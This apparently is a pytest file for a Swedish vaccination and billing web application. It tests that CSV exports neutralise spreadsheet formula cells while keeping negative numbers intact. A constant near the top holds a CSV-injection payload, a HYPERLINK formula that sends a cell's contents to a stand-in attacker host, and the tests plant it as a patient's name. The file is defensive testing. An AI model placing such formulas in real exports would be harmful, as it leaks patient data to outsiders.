"""Exports cannot carry formulas: one CSV writer (mittvaccin/exports.py) neutralises formula cells."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from django.urls import reverse
from django.utils import timezone

from billing import services as billing_services
from mittvaccin.exports import csv_text, neutralise
from tests.billing.factories import adult, approved, dose_charge, product_with_price, ready_caregiver
from tests.conftest import client_for

ROOT = Path(__file__).resolve().parents[2]
HYPERLINK = '=HYPERLINK("https://angripare.example/?d="&A1;"Klicka här")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+46701234567", "'+46701234567"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-345.00", "-345.00"),  # a credit note's total stays a number
        ("-1250,50", "-1250,50"),
        ("Andersson", "Andersson"),
        ("", ""),
        (None, ""),
        (12, "12"),
    ],
)
def test_formula_cells_are_neutralised_and_numbers_kept(value, written):
    assert neutralise(value) == written


def test_the_file_reads_back_as_text_in_every_cell():
    text = csv_text(["namn", "belopp"], [[HYPERLINK, "-345.00"], ["Eva; Berg", "12"]])
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"))
    assert rows == [["namn", "belopp"], ["'" + HYPERLINK, "-345.00"], ["Eva; Berg", "12"]]


@pytest.mark.django_db
def test_an_invoice_export_of_a_patient_named_like_a_formula_cannot_run_it(cast):
    ready_caregiver(cast.caregiver_a)
    product = product_with_price(cast.caregiver_a, "345.00")
    patient = adult(cast.caregiver_a, family_name=HYPERLINK, given_names="@Eva", address="+Gatan 1")
    approved(dose_charge(patient, cast.unit_a, product, user=cast.alice), cast.clinic_a)
    billing_services.invoices_issue(caregiver=cast.caregiver_a, user=cast.clinic_a)
    today = timezone.localdate().isoformat()
    response = client_for(cast.clinic_a).get(
        reverse("billing:invoices_export"), {"date_from": today, "date_to": today, "hamta": "1"}
    )
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.content.decode().lstrip("\ufeff")), delimiter=";"))
    header, [row] = rows[0], rows[1:]
    cells = dict(zip(header, row, strict=True))
    assert cells["namn"] == "'@Eva " + HYPERLINK
    assert cells["adress"] == "'+Gatan 1"
    for cell in row:
        assert (
            not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
            or cell.lstrip("-").replace(".", "").isdigit()
        )


def test_every_export_uses_the_one_writer():
    """No module but mittvaccin/exports.py writes CSV itself."""
    offenders = []
    for app in ("mittvaccin", "journal", "booking", "billing", "reports", "nvr", "fhirapi", "residents"):
        for path in (ROOT / app).rglob("*.py"):
            if "migrations" in path.parts or path == ROOT / "mittvaccin" / "exports.py":
                continue
            source = path.read_text()
            if re.search(r"^\s*(import csv\b|from csv import)|csv\.(writer|DictWriter)\(", source, re.M):
                offenders.append(str(path.relative_to(ROOT)))
    assert not offenders, f"Write CSV through mittvaccin.exports: {offenders}"
